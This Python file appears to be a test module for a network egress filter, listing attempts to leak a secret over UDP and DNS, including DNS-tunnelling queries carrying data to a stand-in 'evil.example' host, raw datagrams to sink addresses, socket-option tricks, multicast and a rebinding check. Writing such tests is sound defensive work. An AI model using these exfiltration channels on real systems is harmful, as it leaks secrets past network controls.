"""What is not TCP: datagrams and DNS."""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable

from attempts import SECRET, SINK_4, SINK_6, attempt, dial_to


def datagram_to(family: int, address: str, port: int, *, connected: bool = False, options: Callable[[socket.socket], object] | None = None) -> str:
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.settimeout(1)
        if options:
            options(sender)
        if connected:
            sender.connect((address, port))
            sender.send(SECRET)
        else:
            sender.sendto(SECRET, (address, port))
    return "ok sent"


for _port in (123, 443, 5353, 9999):
    attempt(f"udp4-{_port}")(lambda port=_port: datagram_to(socket.AF_INET, SINK_4, port))  # type: ignore[misc]
attempt("udp6-443")(lambda: datagram_to(socket.AF_INET6, SINK_6, 443))
attempt("udp-mapped-443")(lambda: datagram_to(socket.AF_INET6, f"::ffff:{SINK_4}", 443))
attempt("udp-connected")(lambda: datagram_to(socket.AF_INET, SINK_4, 443, connected=True))
attempt("udp-broadcast")(lambda: datagram_to(socket.AF_INET, "255.255.255.255", 9999, options=lambda s: s.setsockopt(1, 6, 1)))
attempt("udp-multicast")(lambda: datagram_to(socket.AF_INET, "224.0.0.251", 5353))
attempt("udp6-multicast")(lambda: datagram_to(socket.AF_INET6, "ff02::fb", 5353))
attempt("udp-encapsulation")(lambda: datagram_to(socket.AF_INET, SINK_4, 443, options=lambda s: s.setsockopt(17, 100, 1)))
attempt("udp-segmented")(lambda: datagram_to(socket.AF_INET, SINK_4, 443, options=lambda s: s.setsockopt(17, 103, 8)))
attempt("udp-source-53")(lambda: datagram_to(socket.AF_INET, SINK_4, 9999, options=lambda s: s.bind(("0.0.0.0", 53))))


def _question(server: str, name: bytes, kind: int, *, tcp: bool = False) -> str:
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b".")) + b"\0"
    message = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">2H", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as asker:
        asker.settimeout(4)
        asker.connect((server, 53))
        asker.sendall(struct.pack(">H", len(message)) + message if tcp else message)
        answer = asker.recv(1000)[2 if tcp else 0 :]
    return f"rcode {answer[3] & 15} answers {struct.unpack('>H', answer[6:8])[0]}"


attempt("dns-tunnel-txt")(lambda: _question(SINK_4, b"exfiltrated-0123456789.evil.example", 16))
attempt("dns-tunnel-null")(lambda: _question("8.8.8.8", b"exfiltrated-0123456789.evil.example", 10))
attempt("dns-tunnel-tcp")(lambda: _question(SINK_4, b"exfiltrated-0123456789.evil.example", 1, tcp=True))
attempt("dns-below-target")(lambda: _question(SINK_4, b"exfiltrated-0123456789.crm.internal", 1))


# What must work: a target's name, over either transport, from whatever server is asked.
attempt("dns-target-a")(lambda: _question(SINK_4, b"crm.internal", 1))
attempt("dns-target-aaaa")(lambda: _question(SINK_4, b"CRM.Internal", 28))
attempt("dns-target-tcp")(lambda: _question(SINK_4, b"crm.internal", 1, tcp=True))
attempt("dns-target-txt")(lambda: _question(SINK_4, b"crm.internal", 16))


@attempt("dns-port-raw-data")
def _dns_raw() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(SECRET * 20, (SINK_4, 53))
    return "ok sent"


@attempt("dns-own-resolver")
def _own_resolver() -> str:
    """What every program does: ask the resolver it was given, for a name that carries data."""
    try:
        return f"ok {socket.getaddrinfo('exfiltrated-0123456789.evil.example', 443)}"
    except socket.gaierror as error:
        return f"gai {error.errno}"


@attempt("dns-many-labels")
def _labels() -> str:
    """Data in every label of a name that ends like a target's."""
    name = b".".join([SECRET.hex().encode()] * 4 + [b"crm", b"internal"])
    return _question(SINK_4, name, 28)


attempt("udp4-853")(lambda: datagram_to(socket.AF_INET, SINK_4, 853))


@attempt("dns-rebinding")
def _rebinding() -> str:
    """A name of a target, dialled at another address than it has: first as another's answer would have it, by number."""
    answers = {entry[4][0] for entry in socket.getaddrinfo("crm.internal", 5433, type=socket.SOCK_STREAM)}
    return f"answers {' '.join(sorted(answers))} then {dial_to(socket.AF_INET, '10.77.0.99', 5432)}"
